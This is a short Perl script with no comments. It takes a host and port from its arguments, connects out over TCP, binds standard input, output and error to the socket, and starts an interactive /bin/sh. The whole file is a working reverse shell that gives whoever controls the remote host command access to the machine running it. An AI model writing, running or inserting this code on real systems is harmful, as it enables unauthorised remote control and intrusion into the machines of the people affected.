#!/usr/bin/perl
use Socket;
my ($h, $p) = ($ARGV[0], $ARGV[1] || 443);
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp")) or die;
connect(S, sockaddr_in($p, inet_aton($h))) or die;
open(STDIN, "<&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
exec("/bin/sh -i");
